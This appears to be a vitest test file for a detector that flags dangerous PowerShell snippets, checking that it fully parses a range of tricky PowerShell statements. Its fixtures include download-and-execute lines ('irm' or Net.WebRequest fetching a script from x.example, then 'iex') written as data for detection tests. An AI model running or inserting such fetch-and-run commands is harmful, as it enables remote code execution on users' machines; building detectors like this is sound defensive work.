import { expect, it } from "vitest";
import { createNodeDetector } from "../../src/host/node.js";

const loader = [
  '$request = [Net.WebRequest]::Create("https://x.example/a")',
  "$response = $request.GetResponse()",
  "$reader = New-Object IO.StreamReader($response.GetResponseStream())",
  "$code = $reader.ReadToEnd()",
  "iex $code",
];

it("a PowerShell block that is not valid shell code is analyzed completely", async () => {
  const detector = await createNodeDetector({ profile: "extended" });
  const { spans, outcome } = detector.detect(`\`\`\`powershell\n${loader.join("\n")}\n\`\`\`\n`);
  expect([spans.length, outcome]).toEqual([1, { status: "complete" }]);
});

/** PowerShell statements that the grammar cannot parse. */
const unparsable = [
  "Get-Process | Select-Object Name, Id",
  "<powershell>\nGet-Date\n</powershell>\n<persist>true</persist>",
  "if ($size -gt 4GB) { $size }",
  ":next foreach ($a in $list) { break next }",
  "Get-ChildItem $HOME/a.b -Force",
  'Write-Host "$a#$b"',
  '"Free: $($disk / 1GB)"',
  "$d = $a - $b",
  "$node = ($item.Node ?? $other.Node).Headers",
  "$count ??= 1",
  '$mark = $isFirst ? "<br>": ""',
  'function f { param([Parameter(Mandatory, ParameterSetName = "Url")] [string] $u) $u }',
  "function f { param($name) 'a' }",
  "[Flags()]\nenum Modes { A = 1 }",
  "$names.Where({ $_ -gt 1 }).ForEach({ Join-Path $folder $_ })",
  "& { 'a' }.GetNewClosure()",
  "Write-Output $value.GetType().FullName -a 1",
  "Get-ChildItem $root\\..\\..\\ -Include *.exe, *.dll",
  "Remove-Item $folder/$name",
  'Write-Host "$(Get-Content $folder/rebase-merge/end)"',
  'Write-Host "$(Get-Item -Path `"HKLM:\\A B`" -Name *c*)"',
  '"$($a -replace "(`t|`r)"," ")".Trim()',
  '& 7z.exe x "a.zip" -o"$folder" -y',
  "git log --format='%H||%P'",
  "Get-Sum -Array $a -MD5 $b -SHA256Sum $c",
  "if ($a -inotin 'x', 'y') { ($a -cin $b) | Out-Null }",
  '[string]::Format("{0}", $a -shr 32, $a -band [uint32]::MaxValue)',
  "bcdedit /set `{current`} policy legacy",
  "$x = switch ($y) { 'a' { 0 } default { 1 } }",
  'switch ($y) { "a b" { 0 } "c d" { 1 } }',
  "Invoke-WebRequest -Uri http://x.example/${place}?format=j1 -UserAgent a",
  `function f {\nparam(\n[string] $iex,\n[string] $b)\n${'$line = "$esc[7m$a$esc[0m`e[1m"\n'.repeat(80)}}`,
  "$d = [System.Collections.Generic.Dictionary[string, object]]::new()",
  "[Windows.Foundation.Uri, Windows.Web, ContentType = WindowsRuntime]::new(1).Find()",
  "$request.Method = [Net.WebRequestMethods+Ftp]::GetFileSize",
];

it.each(unparsable)("is analyzed completely, with the following lines: %s", async (statement) => {
  const detector = await createNodeDetector({ profile: "extended" });
  const script = (run: string): string => `\`\`\`powershell\n${statement}\n${run}\n\`\`\`\n`;
  const found = detector.detect(script("$c = irm https://x.example/a.ps1\niex $c"));
  expect([found.labels, found.outcome]).toEqual([["PS"], { status: "complete" }]);
  const harmless = detector.detect(script("$c = irm https://x.example/a.ps1\necho $c"));
  expect([harmless.labels, harmless.outcome]).toEqual([[], { status: "complete" }]);
});

it("a member access after parentheses is analyzed completely in the contract profile", async () => {
  const detector = await createNodeDetector({ profile: "contract" });
  const script = [
    '$order = "size"',
    '$list = (Invoke-WebRequest "https://x.example/q?o=$order" -UserAgent "curl").Content | ConvertFrom-Csv',
    "foreach ($one in $list) { Write-Host $one.name }",
  ];
  const { labels, outcome } = detector.detect(`\`\`\`powershell\n${script.join("\n")}\n\`\`\`\n`);
  expect([labels, outcome]).toEqual([[], { status: "complete" }]);
});

it("a string that may be shell or PowerShell is complete if only one of them accepts it", async () => {
  const detector = await createNodeDetector({ profile: "extended" });
  const line = "source $HOME/.profile; {{ .Vars }} pwsh -f {{ .Path }}";
  const text = `provisioner "shell" {\n  execute_command = "${line}"\n}\n`;
  const { labels, outcome } = detector.detect(text, { format: "hcl" });
  expect([labels, outcome]).toEqual([[], { status: "complete" }]);
});
